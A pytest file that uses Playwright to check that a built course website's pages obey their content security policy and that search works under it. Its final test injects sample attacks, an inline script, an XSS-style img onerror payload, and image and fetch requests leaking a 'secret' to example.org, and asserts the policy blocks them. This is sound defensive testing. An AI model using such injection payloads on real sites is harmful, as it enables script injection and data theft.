"""Every page obeys its own content security policy, and the policy holds.

The other tests of this folder look at pages without it: what Playwright itself runs in
a page would not be allowed.
"""

import time

import pytest

from book.project import COURSE
from tests.shared.built import LEADS_ON, html_pages, page
from tests.shared.shown import ALIVE
from tests.shared.tabs import Watch

PAGES = [
    name
    for name in html_pages()
    # templates, what a web host alone shows, and what only leads on
    if not name.startswith("_static") and name not in {"404.html", *LEADS_ON}
]
# What a page was not allowed to do, from its first moment on
HEAR = """window.refused = [];
document.addEventListener("securitypolicyviolation", (event) =>
  refused.push(`${event.effectiveDirective}: ${event.blockedURI} ${event.sample}`));
"""


@pytest.fixture(scope="module")
def tab(browser):
    context = browser.new_context()
    context.add_init_script(HEAR)
    opened = context.new_page()
    opened.watch = Watch(context)
    yield opened
    context.close()


def soon(opened, question, argument=None):
    """Ask a page again and again, from outside, until the answer is yes."""
    end = time.monotonic() + 60
    while not (answer := opened.evaluate(question, argument)):
        assert time.monotonic() < end, question
        time.sleep(0.05)
    return answer


@pytest.mark.parametrize("way", ["http", "file"])
@pytest.mark.parametrize("name", PAGES)
def test_a_page_does_nothing_that_its_policy_forbids(tab, server, name, way):
    base = server if way == "http" else f"{COURSE.html.as_uri()}/"
    tab.watch.forget()
    tab.goto(base + name)
    for key in page(name).figures:
        soon(tab, "key => window.firstWeights?.figures?.[key]", key)
        soon(tab, ALIVE, key)
    assert tab.evaluate("refused") == []
    assert tab.watch.complaints == []


def test_the_search_works_under_its_policy(tab, server):
    tab.watch.forget()
    tab.goto(f"{server}search.html?q=xavier")
    soon(tab, "() => document.querySelectorAll('main li').length > 2")
    assert tab.evaluate("refused") == [] and tab.watch.complaints == []


@pytest.mark.parametrize(
    ("deed", "kind"),
    [
        (
            "document.body.append(Object.assign(document.createElement('script'),"
            " { textContent: 'window.stolen = 1' }))",
            "script-src",
        ),
        (
            "document.body.insertAdjacentHTML('beforeend',"
            " `<img src='data:,' onerror='window.stolen = 1'>`)",
            "script-src",
        ),
        (
            "document.body.append(Object.assign(document.createElement('img'),"
            " { src: 'https://example.org/?secret' }))",
            "img-src",
        ),
        ("fetch('https://example.org/').catch(() => 0)", "connect-src"),
    ],
)
def test_what_does_not_belong_to_the_site_is_refused(tab, server, deed, kind):
    tab.goto(f"{server}intro.html")
    tab.evaluate(f"() => {{ {deed} }}")
    told = soon(tab, "() => refused.length ? refused : null")
    assert told[0].startswith(kind)
    assert not tab.evaluate("window.stolen")
